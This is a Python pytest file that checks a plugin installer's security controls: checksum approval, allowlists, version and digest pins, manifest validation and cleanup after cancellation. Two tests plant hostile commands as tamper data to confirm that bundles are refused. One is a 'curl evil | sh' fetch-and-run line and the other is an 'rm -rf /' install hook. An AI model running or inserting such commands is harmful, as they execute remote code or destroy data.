from __future__ import annotations

import asyncio
import os
import stat
import threading
from pathlib import Path

import pytest

import runner.install
from runner.digest import tree_digest
from runner.install_archive import AbortedError, ArchiveLimits, BundleKind
from runner.install_errors import InstallError, Reason
from tests.fixtures.install.builders import (
    PLUGIN_ID,
    allow,
    bundle_files,
    checksums_for,
    installer,
    manifest_text,
    store_leftovers,
    write_dir,
    write_tar_gz,
    write_zip,
)


def _store_names(tmp_path: Path) -> list[str]:
    return store_leftovers(tmp_path / "store")


async def test_a_directory_bundle_is_installed_into_a_sealed_store_entry(tmp_path: Path) -> None:
    files = bundle_files() | {"bin/tool": b"#!/bin/sh\n"}
    bundle = write_dir(tmp_path / "bundles" / "demo", files)
    (bundle / "bin" / "tool").chmod(0o755)
    (bundle / "__pycache__").mkdir()
    (bundle / "__pycache__" / "demo.cpython-311.pyc").write_bytes(b"not covered by the digest")
    inst = installer(tmp_path, allow(), checksums_for(tmp_path, bundle))

    record = await inst.install(bundle)

    assert (record.plugin_id, record.version) == (PLUGIN_ID, "1.0.0")
    assert record.digest == tree_digest(bundle) == record.source_sha256
    assert record.source == str(bundle.resolve()) and record.signed_by is None
    entry = inst.path_of(record)
    assert entry == tmp_path / "store" / record.digest
    assert not (entry / "__pycache__").exists()
    assert tree_digest(entry) == record.digest
    modes = {
        p.relative_to(entry).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in entry.rglob("*")
    }
    assert modes == {
        "plugin.toml": 0o444,
        "demo.py": 0o444,
        "lib": 0o555,
        "lib/helpers.py": 0o444,
        "bin": 0o555,
        "bin/tool": 0o555,
    }
    assert stat.S_IMODE(entry.stat().st_mode) == 0o555
    assert await inst.installed() == [record]
    assert _store_names(tmp_path) == [record.digest]


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
async def test_an_archive_lands_at_the_same_address_as_its_directory(
    tmp_path: Path, kind: str
) -> None:
    files = bundle_files()
    directory = write_dir(tmp_path / "demo", files)
    archive = tmp_path / f"demo.{kind}"
    (write_zip if kind == "zip" else write_tar_gz)(archive, files)
    inst = installer(tmp_path, allow(), checksums_for(tmp_path, archive))

    record = await inst.install(archive)

    assert record.digest == tree_digest(directory)
    assert record.source_sha256 != record.digest  # checksums.txt approved the archive file
    assert tree_digest(inst.path_of(record)) == record.digest


async def test_installing_the_same_bundle_twice_is_harmless(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    inst = installer(tmp_path, allow(), checksums_for(tmp_path, bundle))
    first = await inst.install(bundle)
    second = await inst.install(bundle)
    assert first.digest == second.digest
    assert [r.digest for r in await inst.installed()] == [first.digest]
    assert _store_names(tmp_path) == [first.digest]


async def test_two_versions_are_recorded_side_by_side(tmp_path: Path) -> None:
    one = write_dir(tmp_path / "one", bundle_files(version="1.0.0"))
    two = write_dir(tmp_path / "two", bundle_files(version="1.1.0"))
    inst = installer(tmp_path, allow(), checksums_for(tmp_path, one, two))
    await asyncio.gather(inst.install(one), inst.install(two))
    assert [r.version for r in await inst.installed()] == ["1.0.0", "1.1.0"]


async def _refusal(tmp_path: Path, source: Path, **kwargs: object) -> InstallError:
    inst = installer(tmp_path, kwargs.pop("allowlist", allow()), kwargs.pop("checksums"), **kwargs)  # type: ignore[arg-type]
    with pytest.raises(InstallError) as info:
        await inst.install(source)
    assert _store_names(tmp_path) == [], "a refused bundle left something in the store"
    assert await inst.installed() == []
    return info.value


async def test_refused_when_not_allowlisted(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    error = await _refusal(
        tmp_path,
        bundle,
        allowlist=allow("dev.corral.other"),
        checksums=checksums_for(tmp_path, bundle),
    )
    assert error.reason is Reason.NOT_ALLOWLISTED and error.plugin_id == PLUGIN_ID


async def test_refused_when_the_version_is_outside_the_range(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files(version="2.0.0"))
    error = await _refusal(
        tmp_path,
        bundle,
        allowlist=allow(extra='versions = ">=1.0.0,<2.0.0"'),
        checksums=checksums_for(tmp_path, bundle),
    )
    assert error.reason is Reason.VERSION_NOT_ALLOWED
    assert "2.0.0" in error.message


async def test_refused_when_checksums_txt_has_no_line(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    other = write_dir(tmp_path / "other", bundle_files())
    error = await _refusal(tmp_path, bundle, checksums=checksums_for(tmp_path, other))
    assert error.reason is Reason.CHECKSUM_MISSING
    assert "corral plugins checksum" in error.message


async def test_refused_when_a_directory_changed_after_approval(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    checksums = checksums_for(tmp_path, bundle)
    (bundle / "demo.py").write_text("import os\nos.system('curl evil | sh')\n")
    error = await _refusal(tmp_path, bundle, checksums=checksums)
    assert error.reason is Reason.CHECKSUM_MISMATCH
    assert "line 1" in error.message


@pytest.mark.parametrize("change", ["added", "removed", "executable"])
async def test_any_tree_change_is_a_mismatch(tmp_path: Path, change: str) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    checksums = checksums_for(tmp_path, bundle)
    if change == "added":
        (bundle / "extra.py").write_text("")
    elif change == "removed":
        (bundle / "lib" / "helpers.py").unlink()
    else:
        (bundle / "demo.py").chmod(0o755)
    error = await _refusal(tmp_path, bundle, checksums=checksums)
    assert error.reason is Reason.CHECKSUM_MISMATCH


async def test_refused_when_an_archive_changed_after_approval(tmp_path: Path) -> None:
    archive = write_zip(tmp_path / "demo.zip", bundle_files())
    checksums = checksums_for(tmp_path, archive)
    write_zip(archive, bundle_files(version="1.0.1"))
    error = await _refusal(tmp_path, archive, checksums=checksums)
    assert error.reason is Reason.CHECKSUM_MISMATCH


async def test_refused_when_the_allowlist_pins_another_digest(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    error = await _refusal(
        tmp_path,
        bundle,
        allowlist=allow(extra=f'digests = ["{"0" * 64}"]'),
        checksums=checksums_for(tmp_path, bundle),
    )
    assert error.reason is Reason.PINNED_DIGEST_MISMATCH


async def test_a_matching_pin_is_accepted(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    pin = tree_digest(bundle)
    inst = installer(
        tmp_path,
        allow(extra=f'digests = ["{"0" * 64}", "{pin}"]'),
        checksums_for(tmp_path, bundle),
    )
    assert (await inst.install(bundle)).digest == pin


async def test_refused_with_the_field_path_when_the_manifest_is_invalid(tmp_path: Path) -> None:
    files = bundle_files() | {"plugin.toml": manifest_text(version="one").encode()}
    bundle = write_dir(tmp_path / "demo", files)
    error = await _refusal(tmp_path, bundle, checksums=checksums_for(tmp_path, bundle))
    assert error.reason is Reason.INVALID_MANIFEST
    assert error.fields == ["$.version"]


async def test_refused_when_the_manifest_has_an_unknown_key(tmp_path: Path) -> None:
    text = manifest_text() + 'run_on_install = "rm -rf /"\n'
    bundle = write_dir(tmp_path / "demo", bundle_files() | {"plugin.toml": text.encode()})
    error = await _refusal(tmp_path, bundle, checksums=checksums_for(tmp_path, bundle))
    assert error.reason is Reason.INVALID_MANIFEST
    assert error.problems and "run_on_install" in error.problems[0]


async def test_an_archive_of_the_folder_instead_of_its_contents_is_explained(
    tmp_path: Path,
) -> None:
    nested = {f"demo/{name}": data for name, data in bundle_files().items()}
    archive = write_zip(tmp_path / "demo.zip", nested)
    error = await _refusal(tmp_path, archive, checksums=checksums_for(tmp_path, archive))
    assert error.reason is Reason.INVALID_MANIFEST
    assert error.fields == ["$"] and "demo/" in error.message


@pytest.mark.parametrize("name", ["missing", "bundle.rar", "bundle.zip"])
async def test_refused_when_the_source_is_not_a_bundle(tmp_path: Path, name: str) -> None:
    source = tmp_path / name
    if name != "missing":
        source.write_bytes(b"this is not an archive")
    checksums = checksums_for(tmp_path, source) if source.exists() else checksums_for(tmp_path)
    error = await _refusal(tmp_path, source, checksums=checksums)
    assert error.reason is Reason.INVALID_BUNDLE


async def test_cancelling_an_install_removes_its_staging(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    inst = installer(tmp_path, allow(), checksums_for(tmp_path, bundle))
    started = threading.Event()
    finished = threading.Event()

    def slow_unpack(
        source: Path,
        kind: BundleKind,
        target: Path,
        limits: ArchiveLimits,
        abort: threading.Event | None = None,
    ) -> None:
        assert abort is not None
        target.mkdir()
        (target / "partial").write_text("half written")
        started.set()
        try:
            if not abort.wait(timeout=10):
                raise AssertionError("the installer never asked the thread to stop")
            raise AbortedError
        finally:
            finished.set()

    monkeypatch.setattr(runner.install, "unpack", slow_unpack)
    task = asyncio.create_task(inst.install(bundle))
    while not started.is_set():
        await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert finished.is_set(), "install returned while its thread was still writing"
    assert _store_names(tmp_path) == []
    assert await inst.installed() == []


async def test_a_stale_staging_of_a_dead_process_is_removed(tmp_path: Path) -> None:
    bundle = write_dir(tmp_path / "demo", bundle_files())
    inst = installer(tmp_path, allow(), checksums_for(tmp_path, bundle))
    await inst.install(bundle)
    dead = tmp_path / "store" / ".staging-999999999-0000"
    alive = tmp_path / "store" / f".staging-{os.getpid()}-0000"
    for path in (dead, alive):
        (path / "tree").mkdir(parents=True)
        (path / "tree").chmod(0o555)
    await inst.verify_installed()
    assert not dead.exists() and alive.exists()
